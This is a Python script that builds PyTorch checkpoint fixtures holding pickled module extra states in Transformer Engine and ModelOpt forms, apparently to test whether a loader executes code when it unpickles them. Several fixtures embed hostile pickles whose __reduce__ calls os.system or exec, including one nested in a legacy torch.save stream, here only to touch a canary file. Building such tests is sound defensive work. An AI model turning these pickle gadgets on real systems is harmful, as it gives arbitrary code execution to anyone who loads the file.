#!/usr/bin/python3
"""Checkpoints whose module extra states hold pickles, made by this
interpreter's torch (issue 66, items 1-5), into DIR:

  te_new.pt        Transformer Engine's form: `layer._extra_state` is a uint8
                   tensor of pickle.dumps(the dict its get_extra_state builds:
                   the DelayedScaling recipe with its Format enum, scales and
                   amax histories as tensors, extra_fp8_variables)
  te_old.pt        older Transformer Engine: an io.BytesIO of a torch.save of
                   that dict's tensors
  modelopt.pt      a ModelOpt-like quantizer state: a uint8 tensor of
                   pickle.dumps({'_amax': tensor, 'num_bits': 8, ...})
  no_pickle.pt     uint8 extra states that are no pickle (random bytes, empty)
  te_new_system.pt, te_new_exec.pt, te_old_system.pt, modelopt_exec.pt,
  te_new_load_from_bytes.pt (a tensor whose _load_from_bytes legacy stream's
  pickle calls os.system): each touches CANARY (relative to the working
  directory) when the model's set_extra_state unpickles it.

The classes Transformer Engine pickles are made under their real module
name (transformer_engine.common.recipe), as its pickles name them; nothing
of Transformer Engine is imported.

usage: extra_states.py DIR CANARY
"""
import collections
import dataclasses
import enum
import io
import os
import pickle
import sys
import types
from typing import NamedTuple

import torch

# transformer_engine.common.recipe, as its pickles name it.
recipe = types.ModuleType("transformer_engine.common.recipe")
sys.modules.setdefault("transformer_engine", types.ModuleType("transformer_engine"))
sys.modules.setdefault("transformer_engine.common", types.ModuleType("transformer_engine.common"))
sys.modules["transformer_engine.common.recipe"] = recipe


class _FormatHelper(NamedTuple):
    max_fwd: float
    max_bwd: float


class Format(enum.Enum):
    E4M3 = _FormatHelper(max_fwd=448, max_bwd=448)
    E5M2 = _FormatHelper(max_fwd=57344, max_bwd=57344)
    HYBRID = _FormatHelper(max_fwd=E4M3.max_fwd, max_bwd=E5M2.max_bwd)


@dataclasses.dataclass()
class DelayedScaling:
    margin: int = 0
    fp8_format: Format = Format.HYBRID
    amax_history_len: int = 1024
    amax_compute_algo: str = "max"
    scaling_factor_compute_algo: object = None
    reduce_amax: bool = True
    fp8_dpa: bool = False
    fp8_mha: bool = False


for cls in (_FormatHelper, Format, DelayedScaling):
    cls.__module__ = recipe.__name__
    cls.__qualname__ = cls.__name__
    setattr(recipe, cls.__name__, cls)


class Run:
    """Pickled as a call of `func(arg)`: what a hostile extra state holds."""

    def __init__(self, func, arg):
        self.func, self.arg = func, arg

    def __reduce__(self):
        return self.func, (self.arg,)


class LoadFromBytes:
    """Pickled as torch.storage._load_from_bytes(stream), as a storage is."""

    def __init__(self, stream):
        self.stream = stream

    def __reduce__(self):
        return torch.storage._load_from_bytes, (self.stream,)


def te_state(hostile=None):
    """The dict Transformer Engine's get_extra_state pickles."""
    state = {
        "recipe": DelayedScaling(),
        "scale_fwd": torch.tensor([1.0, 2.0, 0.5]),
        "amax_history_fwd": torch.zeros(4, 3),
        "scale_bwd": torch.tensor([1.0, 1.0]),
        "amax_history_bwd": torch.zeros(4, 2),
        "extra_fp8_variables": {"num_gemms": 1},
    }
    if hostile is not None:
        state["extra_fp8_variables"]["hook"] = hostile
    return state


def as_uint8(data):
    return torch.frombuffer(bytearray(data), dtype=torch.uint8) if data else torch.empty(0, dtype=torch.uint8)


def model(extra_state, key="layer._extra_state"):
    sd = collections.OrderedDict()
    sd["module.layer.weight"] = torch.arange(6, dtype=torch.float32).reshape(2, 3)
    sd["module.layer.bias"] = torch.ones(2)
    sd["module." + key] = extra_state
    return sd


def torch_saved(value):
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer


def legacy_stream_calling(command):
    """A legacy torch.save stream whose object pickle calls os.system."""
    return (pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2) + pickle.dumps(1001, protocol=2) +
            pickle.dumps({"protocol_version": 1001, "little_endian": True,
                          "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2) +
            pickle.dumps(Run(os.system, command), protocol=2) + pickle.dumps([], protocol=2))


def main(out, canary):
    os.makedirs(out, exist_ok=True)
    touch = "touch " + canary

    def save(name, sd):
        torch.save(sd, os.path.join(out, name))

    save("te_new.pt", model(as_uint8(pickle.dumps(te_state()))))
    old = {k: v for k, v in te_state().items() if isinstance(v, torch.Tensor)}
    save("te_old.pt", model(torch_saved(old)))
    save("modelopt.pt", model(as_uint8(pickle.dumps({"_amax": torch.tensor(3.5), "num_bits": 8, "axis": None,
                                                     "unsigned": False, "_pytorch_state_metadata": {"buffers": {}}})),
                              key="q._extra_state"))
    sd = model(as_uint8(os.urandom(64)))
    sd["module.other._extra_state"] = torch.empty(0, dtype=torch.uint8)
    save("no_pickle.pt", sd)

    save("te_new_system.pt", model(as_uint8(pickle.dumps(te_state(Run(os.system, touch))))))
    save("te_new_exec.pt", model(as_uint8(pickle.dumps(te_state(Run(exec, "import os; os.system(%r)" % touch))))))
    save("te_old_system.pt", model(torch_saved({"scale_fwd": torch.ones(1), "hook": Run(os.system, touch)})))
    save("modelopt_exec.pt", model(as_uint8(pickle.dumps({"_amax": torch.tensor(1.0),
                                                          "hook": Run(exec, "import os; os.system(%r)" % touch)})),
                                   key="q._extra_state"))
    save("te_new_load_from_bytes.pt",
         model(as_uint8(pickle.dumps({"scale_fwd": LoadFromBytes(legacy_stream_calling(touch))}))))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
